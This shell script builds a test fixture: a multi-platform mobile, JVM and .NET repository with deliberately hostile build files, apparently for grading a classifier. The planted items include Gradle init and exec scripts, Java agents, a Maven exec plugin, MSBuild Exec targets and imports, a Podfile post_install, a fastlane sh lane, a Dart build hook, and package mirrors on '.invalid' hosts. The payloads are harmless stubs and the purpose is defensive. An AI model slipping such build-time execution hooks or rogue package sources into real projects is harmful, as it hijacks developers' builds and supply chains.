#!/bin/sh
# Make the workspace (/tmp/ws20) and the directory outside it (/tmp/other20) that corpus20.jsonl was graded in.
# /tmp/ws20 is a git repository of a mobile and JVM/.NET project: an Android app at the top (gradlew,
# build.gradle.kts, settings.gradle, gradle.properties, gradle-wrapper.properties, a version catalogue), a Kotlin
# Maven service in backend/ (pom.xml, .mvn/maven.config, .mvn/jvm.config, mvnw), an iOS app in ios/ (Podfile,
# fastlane, an Xcode project stub, a Swift package), a Flutter/Dart package in mobile_shared/ (pubspec.yaml) and a
# .NET service in dotnet/ (csproj files, Directory.Build.props, global.json, NuGet.config, dotnet-tools.json).
# Some of its files are hostile: tools/legacy-android (a gradle-wrapper distributionUrl on another host),
# tools/agent-android (a gradle.properties loading a Java agent from outside), tools/composite (a settings.gradle
# including a build from outside),
# tools/exec-build (a build script exec), gradle/ci-init.gradle (an init script that runs a program), backend/legacy
# (a Maven plugin exec, a .mvn/maven.config adding an extension class path, a .mvn/jvm.config with a Java agent),
# dotnet/legacy (a csproj Exec target, a global.json naming an SDK path outside), dotnet/imports (a
# Directory.Build.props importing targets from outside), dotnet/mirror (a NuGet.config with another source), ios/Podfile.evil (a post_install), ios/fastlane (a lane
# that uploads), mobile_shared/packages/bridge (a pubspec with a path dependency outside and a build hook).
# Nothing here is run, and nothing here would do harm if it were: the classifier only reads these files, every host
# named ends in .invalid (a reserved name that never resolves), and every program named is /tmp/other20/x, which
# prints and fails.
set -e
WS=${1:-/tmp/ws20}
OTHER=${2:-/tmp/other20}
rm -rf "$WS" "$OTHER"
mkdir -p "$WS"/gradle/wrapper "$WS"/app/src/main/java/com/example/ledger "$WS"/app/src/test/java/com/example/ledger \
    "$WS"/app/src/main/res/values "$WS"/tools/legacy-android/gradle/wrapper "$WS"/tools/exec-build "$WS"/tools/agent-android "$WS"/tools/composite \
    "$WS"/backend/.mvn/wrapper "$WS"/backend/src/main/kotlin/com/example/ledger \
    "$WS"/backend/src/test/kotlin/com/example/ledger "$WS"/backend/legacy/.mvn "$WS"/backend/legacy/src/main/java \
    "$WS"/ios/App.xcodeproj "$WS"/ios/App.xcworkspace "$WS"/ios/App/Sources "$WS"/ios/fastlane \
    "$WS"/ios/CoreKit/Sources/CoreKit "$WS"/ios/CoreKit/Tests/CoreKitTests \
    "$WS"/mobile_shared/lib "$WS"/mobile_shared/test "$WS"/mobile_shared/packages/bridge/lib \
    "$WS"/mobile_shared/packages/bridge/hook "$WS"/mobile_shared/android \
    "$WS"/dotnet/.config "$WS"/dotnet/src/Ledger.Api/Properties "$WS"/dotnet/tests/Ledger.Api.Tests \
    "$WS"/dotnet/legacy/src/Legacy.Worker "$WS"/dotnet/imports/src/Imports.Worker "$WS"/dotnet/mirror "$WS"/build/libs \
    "$OTHER"/gh/init.d "$OTHER"/build-logic "$OTHER"/proj "$OTHER"/ios "$OTHER"/dartpkg/lib "$OTHER"/feed \
    "$OTHER"/sdk "$OTHER"/jdk/bin "$OTHER"/engine "$OTHER"/flutter_tests "$OTHER"/repo
cd "$WS"
# The Android app at the top: an everyday Gradle build with its wrapper
printf '%s\n' '#!/bin/sh' '# Gradle start up script (stub of the generated wrapper)' \
    'exec java -classpath "$(dirname "$0")/gradle/wrapper/gradle-wrapper.jar" org.gradle.wrapper.GradleWrapperMain "$@"' \
    > gradlew
chmod 755 gradlew
printf '%s\r\n' '@rem Gradle start up script for Windows (stub)' > gradlew.bat
printf 'not a jar\n' > gradle/wrapper/gradle-wrapper.jar
printf '%s\n' 'distributionBase=GRADLE_USER_HOME' 'distributionPath=wrapper/dists' \
    'distributionUrl=https\://services.gradle.org/distributions/gradle-8.7-bin.zip' 'networkTimeout=10000' \
    'validateDistributionUrl=true' 'zipStoreBase=GRADLE_USER_HOME' 'zipStorePath=wrapper/dists' \
    > gradle/wrapper/gradle-wrapper.properties
printf '%s\n' 'pluginManagement {' '    repositories { google(); mavenCentral(); gradlePluginPortal() }' '}' \
    'dependencyResolutionManagement {' '    repositories { google(); mavenCentral() }' '}' \
    'rootProject.name = "ledger"' "include ':app'" > settings.gradle
printf '%s\n' 'plugins {' '    alias(libs.plugins.android.application) apply false' \
    '    alias(libs.plugins.kotlin.android) apply false' '}' > build.gradle.kts
printf '%s\n' 'org.gradle.jvmargs=-Xmx2048m -Dfile.encoding=UTF-8' 'android.useAndroidX=true' \
    'kotlin.code.style=official' 'android.nonTransitiveRClass=true' > gradle.properties
printf '%s\n' '[versions]' 'agp = "8.4.1"' 'kotlin = "1.9.24"' 'junit = "4.13.2"' '' '[libraries]' \
    'junit = { group = "junit", name = "junit", version.ref = "junit" }' '' '[plugins]' \
    'android-application = { id = "com.android.application", version.ref = "agp" }' \
    'kotlin-android = { id = "org.jetbrains.kotlin.android", version.ref = "kotlin" }' > gradle/libs.versions.toml
printf '%s\n' 'sdk.dir=/opt/android-sdk' > local.properties
printf '%s\n' 'storeFile=app/release.jks' 'storePassword=corpus20-not-a-password' 'keyAlias=upload' \
    'keyPassword=corpus20-not-a-password' > keystore.properties
printf 'not a keystore\n' > app/release.jks
printf 'not a keystore\n' > app/debug.keystore
printf '%s\n' 'plugins {' '    alias(libs.plugins.android.application)' '    alias(libs.plugins.kotlin.android)' '}' '' \
    'android {' '    namespace = "com.example.ledger"' '    compileSdk = 34' \
    '    defaultConfig { applicationId = "com.example.ledger"; minSdk = 24; targetSdk = 34 }' '}' '' \
    'dependencies { testImplementation(libs.junit) }' > app/build.gradle.kts
printf '%s\n' '-keep class com.example.ledger.** { *; }' > app/proguard-rules.pro
printf '%s\n' '<?xml version="1.0" encoding="utf-8"?>' \
    '<manifest xmlns:android="http://schemas.android.com/apk/res/android">' \
    '    <application android:label="Ledger" />' '</manifest>' > app/src/main/AndroidManifest.xml
printf '%s\n' '<resources><string name="app_name">Ledger</string></resources>' > app/src/main/res/values/strings.xml
printf '%s\n' 'package com.example.ledger;' '' 'public class Totals {' \
    '    public static long sum(long[] xs) { long s = 0; for (long x : xs) s += x; return s; }' '}' \
    > app/src/main/java/com/example/ledger/Totals.java
printf '%s\n' 'package com.example.ledger;' '' 'import org.junit.Test;' 'import static org.junit.Assert.*;' '' \
    'public class TotalsTest {' '    @Test public void sums() { assertEquals(3, Totals.sum(new long[]{1, 2})); }' '}' \
    > app/src/test/java/com/example/ledger/TotalsTest.java
printf 'PK\003\004not-a-jar\n' > build/libs/app.jar
# An init script in the workspace that runs a program (hostile, used only by name in the corpus)
printf '%s\n' 'allprojects {' '    afterEvaluate { ["/tmp/other20/x"].execute() }' '}' > gradle/ci-init.gradle
# tools/legacy-android: a wrapper whose distribution comes from another host, a Java agent from outside, an
# included build from outside
cp gradlew tools/legacy-android/gradlew
printf 'not a jar\n' > tools/legacy-android/gradle/wrapper/gradle-wrapper.jar
printf '%s\n' 'distributionBase=GRADLE_USER_HOME' 'distributionPath=wrapper/dists' \
    'distributionUrl=https\://dist.evil.invalid/gradle-8.7-bin.zip' 'zipStoreBase=GRADLE_USER_HOME' \
    'zipStorePath=wrapper/dists' > tools/legacy-android/gradle/wrapper/gradle-wrapper.properties
printf '%s\n' 'rootProject.name = "legacy"' > tools/legacy-android/settings.gradle
printf '%s\n' 'plugins { id("java") }' > tools/legacy-android/build.gradle.kts
# tools/agent-android: a gradle.properties loading a Java agent from outside
printf '%s\n' 'org.gradle.jvmargs=-Xmx1g -javaagent:/tmp/other20/agent.jar' > tools/agent-android/gradle.properties
printf '%s\n' 'rootProject.name = "agent"' > tools/agent-android/settings.gradle
printf '%s\n' 'plugins { id("java") }' > tools/agent-android/build.gradle.kts
# tools/composite: a settings.gradle including a build from outside
printf '%s\n' 'rootProject.name = "composite"' "includeBuild('/tmp/other20/build-logic')" > tools/composite/settings.gradle
printf '%s\n' 'plugins { id("java") }' > tools/composite/build.gradle.kts
# tools/exec-build: a build script that runs a program at configuration time
printf '%s\n' 'rootProject.name = "exec-build"' > tools/exec-build/settings.gradle.kts
printf '%s\n' 'plugins { id("java") }' 'exec { commandLine("/tmp/other20/x") }' > tools/exec-build/build.gradle.kts
# backend/: a Kotlin Maven service with its wrapper and .mvn settings
printf '%s\n' '<project xmlns="http://maven.apache.org/POM/4.0.0">' '  <modelVersion>4.0.0</modelVersion>' \
    '  <groupId>com.example</groupId>' '  <artifactId>ledger-backend</artifactId>' '  <version>0.4.0</version>' \
    '  <properties><kotlin.version>1.9.24</kotlin.version></properties>' '  <dependencies>' \
    '    <dependency><groupId>org.jetbrains.kotlin</groupId><artifactId>kotlin-stdlib</artifactId>' \
    '      <version>${kotlin.version}</version></dependency>' \
    '    <dependency><groupId>org.junit.jupiter</groupId><artifactId>junit-jupiter</artifactId>' \
    '      <version>5.10.2</version><scope>test</scope></dependency>' '  </dependencies>' '</project>' \
    > backend/pom.xml
printf '%s\n' '#!/bin/sh' '# Apache Maven Wrapper startup script (stub)' \
    'exec java -classpath .mvn/wrapper/maven-wrapper.jar org.apache.maven.wrapper.MavenWrapperMain "$@"' \
    > backend/mvnw
chmod 755 backend/mvnw
printf '%s\n' 'distributionUrl=https://repo.maven.apache.org/maven2/org/apache/maven/apache-maven/3.9.6/apache-maven-3.9.6-bin.zip' \
    > backend/.mvn/wrapper/maven-wrapper.properties
printf '%s\n' '-B' '--no-transfer-progress' > backend/.mvn/maven.config
printf '%s\n' '-Xmx1024m' '-XX:+UseG1GC' > backend/.mvn/jvm.config
printf '%s\n' 'package com.example.ledger' '' 'fun total(xs: List<Long>): Long = xs.sum()' \
    > backend/src/main/kotlin/com/example/ledger/Ledger.kt
printf '%s\n' 'package com.example.ledger' '' 'import org.junit.jupiter.api.Test' '' 'class LedgerTest {' \
    '    @Test fun sums() { check(total(listOf(1L, 2L)) == 3L) }' '}' > backend/src/test/kotlin/com/example/ledger/LedgerTest.kt
# backend/legacy: a plugin exec, maven.config adding an extension class path, jvm.config with a Java agent
printf '%s\n' '<project xmlns="http://maven.apache.org/POM/4.0.0">' '  <modelVersion>4.0.0</modelVersion>' \
    '  <groupId>com.example</groupId>' '  <artifactId>legacy</artifactId>' '  <version>0.1.0</version>' '  <build><plugins>' \
    '    <plugin><groupId>org.codehaus.mojo</groupId><artifactId>exec-maven-plugin</artifactId><version>3.2.0</version>' \
    '      <executions><execution><phase>validate</phase><goals><goal>exec</goal></goals>' \
    '        <configuration><executable>/tmp/other20/x</executable></configuration></execution></executions>' \
    '    </plugin>' '  </plugins></build>' '</project>' > backend/legacy/pom.xml
printf '%s\n' '-Dmaven.ext.class.path=/tmp/other20/ext.jar' > backend/legacy/.mvn/maven.config
printf '%s\n' '-javaagent:/tmp/other20/agent.jar' > backend/legacy/.mvn/jvm.config
printf '%s\n' 'public class Legacy {}' > backend/legacy/src/main/java/Legacy.java
# ios/: an Xcode project stub, CocoaPods, fastlane, a Swift package
printf '%s\n' '// !$*UTF8*$!' '{' '	archiveVersion = 1;' '	objectVersion = 56;' '	objects = {};' \
    '	rootObject = 000000000000000000000001;' '}' > ios/App.xcodeproj/project.pbxproj
printf '%s\n' '<?xml version="1.0" encoding="UTF-8"?>' '<Workspace version = "1.0">' \
    '   <FileRef location = "group:App.xcodeproj"></FileRef>' '   <FileRef location = "group:Pods/Pods.xcodeproj"></FileRef>' \
    '</Workspace>' > ios/App.xcworkspace/contents.xcworkspacedata
printf '%s\n' 'import SwiftUI' '' '@main' 'struct LedgerApp: App {' '    var body: some Scene { WindowGroup { Text("Ledger") } }' \
    '}' > ios/App/Sources/LedgerApp.swift
printf '%s\n' "platform :ios, '16.0'" '' "target 'App' do" '  use_frameworks!' "  pod 'Alamofire', '~> 5.9'" 'end' \
    > ios/Podfile
printf '%s\n' 'PODS:' '  - Alamofire (5.9.1)' '' 'COCOAPODS: 1.15.2' > ios/Podfile.lock
printf '%s\n' "platform :ios, '16.0'" "target 'App' do" "  pod 'Alamofire', '~> 5.9'" 'end' '' \
    'post_install do |installer|' "  system('/tmp/other20/x')" 'end' > ios/Podfile.evil
printf '%s\n' 'default_platform(:ios)' '' 'platform :ios do' '  lane :test do' '    run_tests(scheme: "App")' '  end' '' \
    '  lane :beta do' '    build_app(scheme: "App")' '    upload_to_testflight' '  end' '' '  lane :tidy do' \
    '    sh("/tmp/other20/x")' '  end' 'end' > ios/fastlane/Fastfile
printf '%s\n' 'app_identifier("com.example.ledger")' 'apple_id("dev@example.invalid")' > ios/fastlane/Appfile
printf '%s\n' 'FASTLANE_PASSWORD=corpus20-not-a-password' 'MATCH_PASSWORD=corpus20-not-a-password' > ios/fastlane/.env.default
printf '%s\n' '// swift-tools-version:5.9' 'import PackageDescription' '' 'let package = Package(' '    name: "CoreKit",' \
    '    targets: [' '        .target(name: "CoreKit"),' '        .testTarget(name: "CoreKitTests", dependencies: ["CoreKit"]),' \
    '    ]' ')' > ios/CoreKit/Package.swift
printf '%s\n' 'public func total(_ xs: [Int]) -> Int { xs.reduce(0, +) }' > ios/CoreKit/Sources/CoreKit/Total.swift
printf '%s\n' 'import XCTest' '@testable import CoreKit' '' 'final class TotalTests: XCTestCase {' \
    '    func testSum() { XCTAssertEqual(total([1, 2]), 3) }' '}' > ios/CoreKit/Tests/CoreKitTests/TotalTests.swift
# mobile_shared/: a Flutter package; packages/bridge has a path dependency outside and a build hook
printf '%s\n' 'name: mobile_shared' 'description: Shared Flutter widgets.' 'version: 0.2.0' 'publish_to: none' \
    'environment:' "  sdk: '>=3.3.0 <4.0.0'" '  flutter: ">=3.19.0"' 'dependencies:' '  flutter:' '    sdk: flutter' \
    '  intl: ^0.19.0' 'dev_dependencies:' '  flutter_test:' '    sdk: flutter' '  flutter_lints: ^3.0.0' \
    > mobile_shared/pubspec.yaml
printf '%s\n' 'include: package:flutter_lints/flutter.yaml' > mobile_shared/analysis_options.yaml
printf '%s\n' "import 'package:flutter/widgets.dart';" '' 'class Total extends StatelessWidget {' \
    '  const Total({super.key});' '  @override' "  Widget build(BuildContext context) => const Text('0');" '}' \
    > mobile_shared/lib/total.dart
printf '%s\n' "import 'package:flutter_test/flutter_test.dart';" '' 'void main() {' \
    "  test('adds', () => expect(1 + 2, 3));" '}' > mobile_shared/test/total_test.dart
printf '%s\n' 'storePassword=corpus20-not-a-password' 'keyPassword=corpus20-not-a-password' 'keyAlias=upload' \
    'storeFile=../../app/release.jks' > mobile_shared/android/key.properties
printf '%s\n' 'name: bridge' 'version: 0.0.1' 'environment:' "  sdk: '>=3.3.0 <4.0.0'" 'dependencies:' '  native_loader:' \
    '    path: /tmp/other20/dartpkg' 'hooks:' '  user_defines:' '    bridge:' '      loader: /tmp/other20/x' \
    > mobile_shared/packages/bridge/pubspec.yaml
printf '%s\n' "import 'dart:io';" '' 'void main(List<String> args) {' "  Process.runSync('/tmp/other20/x', []);" '}' \
    > mobile_shared/packages/bridge/hook/build.dart
printf '%s\n' 'int answer() => 42;' > mobile_shared/packages/bridge/lib/bridge.dart
# dotnet/: a .NET service with its tests, build props, SDK pin, NuGet sources and local tools
printf '%s\n' '{' '  "sdk": { "version": "8.0.300", "rollForward": "latestFeature" }' '}' > dotnet/global.json
printf '%s\n' '<Project>' '  <PropertyGroup>' '    <Nullable>enable</Nullable>' '    <TreatWarningsAsErrors>true</TreatWarningsAsErrors>' \
    '  </PropertyGroup>' '</Project>' > dotnet/Directory.Build.props
printf '%s\n' '<?xml version="1.0" encoding="utf-8"?>' '<configuration>' '  <packageSources>' '    <clear />' \
    '    <add key="nuget.org" value="https://api.nuget.org/v3/index.json" />' '  </packageSources>' '</configuration>' \
    > dotnet/NuGet.config
printf '%s\n' '{' '  "version": 1,' '  "isRoot": true,' '  "tools": {' \
    '    "dotnet-ef": { "version": "8.0.6", "commands": ["dotnet-ef"] }' '  }' '}' > dotnet/.config/dotnet-tools.json
printf '%s\n' 'Microsoft Visual Studio Solution File, Format Version 12.00' \
    'Project("{FAE04EC0-301F-11D3-BF4B-00C04F79EFBC}") = "Ledger.Api", "src\Ledger.Api\Ledger.Api.csproj", "{11111111-1111-1111-1111-111111111111}"' \
    'EndProject' > dotnet/Ledger.sln
printf '%s\n' '<Project Sdk="Microsoft.NET.Sdk.Web">' '  <PropertyGroup>' '    <TargetFramework>net8.0</TargetFramework>' \
    '    <UserSecretsId>ledger-api-corpus20</UserSecretsId>' '  </PropertyGroup>' \
    '  <Target Name="Stamp" BeforeTargets="Build">' '    <Message Text="building $(MSBuildProjectName)" />' '  </Target>' \
    '</Project>' > dotnet/src/Ledger.Api/Ledger.Api.csproj
printf '%s\n' 'var app = WebApplication.Create(args);' 'app.MapGet("/", () => "ok");' 'app.Run();' > dotnet/src/Ledger.Api/Program.cs
printf '%s\n' '{ "Logging": { "LogLevel": { "Default": "Information" } } }' > dotnet/src/Ledger.Api/appsettings.json
printf '%s\n' '{ "ConnectionStrings": { "Ledger": "Host=localhost;Database=ledger" } }' \
    > dotnet/src/Ledger.Api/appsettings.Development.json
printf '%s\n' '{ "profiles": { "http": { "commandName": "Project", "applicationUrl": "http://localhost:5080" } } }' \
    > dotnet/src/Ledger.Api/Properties/launchSettings.json
printf '%s\n' '<Project Sdk="Microsoft.NET.Sdk">' '  <PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>' \
    '  <ItemGroup>' '    <PackageReference Include="xunit" Version="2.8.1" />' \
    '    <ProjectReference Include="..\..\src\Ledger.Api\Ledger.Api.csproj" />' '  </ItemGroup>' '</Project>' \
    > dotnet/tests/Ledger.Api.Tests/Ledger.Api.Tests.csproj
printf '%s\n' 'public class TotalTests { [Xunit.Fact] public void Sums() => Xunit.Assert.Equal(3, 1 + 2); }' \
    > dotnet/tests/Ledger.Api.Tests/TotalTests.cs
# dotnet/legacy: an Exec target, props importing targets from outside, an SDK path outside, another package source
printf '%s\n' '<Project Sdk="Microsoft.NET.Sdk">' '  <PropertyGroup><TargetFramework>net8.0</TargetFramework></PropertyGroup>' \
    '  <Target Name="Fetch" BeforeTargets="Build">' '    <Exec Command="/tmp/other20/x" />' '  </Target>' '</Project>' \
    > dotnet/legacy/src/Legacy.Worker/Legacy.Worker.csproj
printf '%s\n' '{' '  "sdk": { "version": "8.0.300", "paths": ["/tmp/other20/sdk", "$host$"] }' '}' > dotnet/legacy/global.json
# dotnet/imports: build props importing targets from outside; dotnet/mirror: a NuGet.config with another source
cp dotnet/legacy/src/Legacy.Worker/Legacy.Worker.csproj dotnet/imports/src/Imports.Worker/Imports.Worker.csproj
printf '%s\n' '<Project>' '  <Import Project="/tmp/other20/evil.targets" />' '</Project>' > dotnet/imports/Directory.Build.props
cp dotnet/tests/Ledger.Api.Tests/Ledger.Api.Tests.csproj dotnet/mirror/Mirror.csproj
printf '%s\n' '<?xml version="1.0" encoding="utf-8"?>' '<configuration>' '  <packageSources>' '    <clear />' \
    '    <add key="mirror" value="https://nuget.evil.invalid/v3/index.json" />' '  </packageSources>' '</configuration>' \
    > dotnet/mirror/NuGet.config
printf '%s\n' '# Ledger' '' 'Android app, Kotlin backend, iOS app, Flutter widgets and a .NET API.' > README.md
printf '%s\n' '.gradle/' 'build/' 'local.properties' 'keystore.properties' '*.jks' '*.keystore' 'ios/Pods/' \
    'ios/fastlane/.env*' 'mobile_shared/.dart_tool/' 'mobile_shared/android/key.properties' 'dotnet/**/bin/' \
    'dotnet/**/obj/' 'backend/target/' > .gitignore
git init -q -b main
git -c user.name=corpus20 -c user.email=corpus20@example.invalid add -A
git -c user.name=corpus20 -c user.email=corpus20@example.invalid commit -q -m 'ws20 fixture'
# Outside the workspace: a program that only prints and fails, and builds, configs and feeds that would run it
cd "$OTHER"
printf '%s\n' '#!/bin/sh' 'echo "corpus20 fixture: never run" >&2' 'exit 1' > x
chmod 755 x
cp x jdk/bin/java
printf '%s\n' 'allprojects { afterEvaluate { ["/tmp/other20/x"].execute() } }' > init.gradle
cp init.gradle gh/init.d/evil.gradle
printf '%s\n' 'rootProject.name = "build-logic"' > build-logic/settings.gradle.kts
printf '%s\n' 'exec { commandLine("/tmp/other20/x") }' > build-logic/build.gradle.kts
cp build-logic/build.gradle.kts proj/build.gradle.kts
printf '%s\n' '<settings><mirrors><mirror><id>m</id><url>https://maven.evil.invalid/repo</url>' \
    '<mirrorOf>*</mirrorOf></mirror></mirrors></settings>' > settings.xml
printf 'not a jar\n' > agent.jar
printf 'not a jar\n' > ext.jar
printf 'PK\003\004not-a-jar\n' > evil.jar
printf '%s\n' '<Project>' '  <Target Name="Evil" BeforeTargets="Build"><Exec Command="/tmp/other20/x" /></Target>' \
    '</Project>' > evil.targets
cp evil.targets evil.csproj
printf '%s\n' '<RunSettings><RunConfiguration><TestAdaptersPaths>/tmp/other20/feed</TestAdaptersPaths>' \
    '</RunConfiguration></RunSettings>' > evil.runsettings
printf '%s\n' '<?xml version="1.0" encoding="utf-8"?>' '<configuration><packageSources>' \
    '<add key="evil" value="https://nuget.evil.invalid/v3/index.json" /></packageSources></configuration>' > NuGet.Config
printf 'not a dll\n' > hook.dll
printf "platform :ios, '16.0'\npost_install do |i|\n  system('/tmp/other20/x')\nend\n" > ios/Podfile
printf '%s\n' 'name: native_loader' 'version: 0.0.1' > dartpkg/pubspec.yaml
printf '%s\n' "import 'dart:io';" "void main() { Process.runSync('/tmp/other20/x', []); }" > dartpkg/lib/native_loader.dart
cp dartpkg/lib/native_loader.dart flutter_tests/evil_test.dart
printf '%s\n' '{"configVersion": 2, "packages": [{"name": "evil", "rootUri": "file:///tmp/other20/dartpkg/"}]}' \
    > package_config.json
printf '%s\n' 'OTHER_SWIFT_FLAGS = -load-plugin-executable /tmp/other20/x#Evil' 'CC = /tmp/other20/x' > evil.xcconfig
printf '%s\n' 'disabled_rules: []' > swiftlint.yml
